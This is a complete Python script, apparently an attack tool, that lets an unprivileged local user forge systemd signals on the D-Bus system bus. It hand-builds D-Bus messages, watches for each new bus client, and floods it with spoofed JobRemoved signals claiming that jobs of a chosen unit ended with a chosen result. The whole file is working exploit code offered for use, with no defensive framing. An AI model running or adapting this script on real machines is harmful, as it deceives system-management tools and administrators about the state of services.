#!/usr/bin/python3
"""forge UNIT RESULT: as any local user, tells each new connection of the system's bus that jobs of the unit have ended so."""
import os
import re
import signal
import socket
import struct
import sys

unit, result = sys.argv[1:]
PATH, INTERFACE, MEMBER, DESTINATION, SIGNATURE = 1, 2, 3, 6, 8
serial = 0


def align(data, size):
    return data + b"\0" * (-len(data) % size)


def text(data, value):
    return align(data, 4) + struct.pack("<I", len(value)) + value.encode() + b"\0"


def message(kind, path, interface, member, destination, signature, body):
    global serial
    serial += 1
    fields = b""
    values = ((PATH, "o", path), (INTERFACE, "s", interface), (MEMBER, "s", member), (DESTINATION, "s", destination))
    for code, form, value in values:
        fields = text(align(fields, 8) + bytes((code, 1)) + form.encode() + b"\0", value)
    fields = align(fields, 8) + bytes((SIGNATURE, 1)) + b"g\0" + bytes((len(signature),)) + signature.encode() + b"\0"
    head = struct.pack("<BBBBIII", ord("l"), kind, 1, 1, len(body), serial, len(fields))
    return align(head + fields, 8) + body


def call(member, signature="", body=b""):
    bus.sendall(message(1, "/org/freedesktop/DBus", "org.freedesktop.DBus", member, "org.freedesktop.DBus", signature, body))


bus = socket.socket(socket.AF_UNIX)
bus.connect("/run/dbus/system_bus_socket")
bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
bus.recv(1_000)
bus.sendall(b"BEGIN\r\n")
call("Hello")
call("AddMatch", "s", text(b"", "type='signal',sender='org.freedesktop.DBus',member='NameOwnerChanged'"))
seen = set(re.findall(rb":1\.\d+", bus.recv(65_536)))
print("armed", flush=True)
# The bus ends a connection that sends too much; what it has taken by then is delivered.
signal.signal(signal.SIGPIPE, signal.SIG_DFL)
while heard := bus.recv(65_536):
    for name in set(re.findall(rb":1\.\d+", heard)) - seen:
        seen.add(name)
        for job in range(1, 600):
            path = f"/org/freedesktop/systemd1/job/{job}"
            body = text(text(text(struct.pack("<I", job), path), unit), result)
            bus.sendall(
                message(4, "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "JobRemoved", name.decode(), "uoss", body))
